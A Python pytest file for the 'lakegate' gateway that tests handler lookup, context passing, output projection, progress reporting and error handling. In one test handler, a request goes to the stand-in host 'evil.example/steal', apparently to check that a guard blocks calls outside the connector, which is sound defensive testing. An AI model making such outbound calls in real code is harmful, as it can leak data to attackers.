"""Code handlers: looked up by name, given an ActionContext, their result projected by `output`."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from lakegate import gateway
from lakegate.errors import GuardError, HTTPStatusError, RemoteError
from lakegate.gateway import ActionContext, Gateway, handler
from lakegate.project import Action, Connector

from .conftest import ApiServer, make_project

SEEN: list[Any] = []


@handler("tests.echo_twice")
async def echo_twice(ctx: ActionContext, inputs: dict[str, Any]) -> Any:
    if ctx.progress is not None:
        await ctx.progress(0.5, 1.0, "halfway")
    first = await ctx.json("GET", f"/api/echo/{inputs['word']}", params={"n": 1})
    response = await ctx.send("POST", "/api/echo/x", json={"word": inputs["word"]})
    SEEN.append((ctx.caller, ctx.connector.name, ctx.action.name, ctx.http is not None))
    return {
        "first": first["raw_path"],
        "second": response.json()["json"],
        "status": response.status_code,
    }


@handler("tests.fails")
async def fails(ctx: ActionContext, inputs: dict[str, Any]) -> Any:
    if inputs.get("how") == "guard":
        await ctx.send("GET", "https://evil.example/steal")
    await ctx.json("GET", "/api/whoami")  # 401: no token
    return None


@pytest.fixture
def project(tmp_path: Path, api: ApiServer) -> Path:
    connector = Connector(name="svc", base_url=api.url)
    actions = [
        Action.model_validate(
            {"name": "twice", "connector": "svc", "handler": "tests.echo_twice",
             "inputs": {"word": {"type": "string", "required": True}}, "output": "second.word"}
        ),
        Action.model_validate(
            {"name": "broken", "connector": "svc", "handler": "tests.fails",
             "inputs": {"how": {"type": "string"}}}
        ),
        Action(name="unknown", connector="svc", handler="nowhere.nothing"),
    ]  # fmt: skip
    return make_project(tmp_path, connector, actions).path


async def test_a_handler_gets_a_context_and_its_result_is_projected(project: Path) -> None:
    progress: list[tuple[float, float | None, str]] = []

    async def report(done: float, total: float | None, message: str) -> None:
        progress.append((done, total, message))

    async with Gateway.from_file(project) as gw:
        result = await gw.call("twice", {"word": "hi"}, caller={"client": "t"}, progress=report)
    assert result.ok, result.error
    assert result.data == "hi"
    assert result.raw["first"] == "/api/echo/hi" and result.raw["status"] == 200
    assert result.attempts == 2 and result.request.line.startswith("POST ")
    assert progress == [(0.5, 1.0, "halfway")]
    assert SEEN[-1] == ({"client": "t"}, "svc", "twice", True)


async def test_handler_errors_become_failed_results(project: Path) -> None:
    async with Gateway.from_file(project) as gw:
        remote = await gw.call("broken")
        guarded = await gw.call("broken", {"how": "guard"})
        unknown = await gw.call("unknown")
    assert isinstance(remote.error, HTTPStatusError) and remote.status == 401
    assert remote.error.message == "UNAUTHENTICATED: no"
    assert isinstance(guarded.error, GuardError)
    assert unknown.error.code == "config.not_found" and "tests.echo_twice" in unknown.error.hint


async def test_a_cut_off_body_is_an_error_never_data(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(gateway, "HANDLER_MAX_BYTES", 64)  # the echo's JSON is longer than this
    async with Gateway.from_file(project) as gw:
        result = await gw.call("twice", {"word": "hi"})
        with pytest.raises(RemoteError) as caught:
            await gw.request("svc", "GET", "/api/echo/hi")
    assert result.error is not None and result.error.code == "remote.response_too_large"
    assert "'twice'" in result.error.message  # named after the action
    assert caught.value.code == "remote.response_too_large"
    assert "GET /api/echo/hi" in caught.value.message
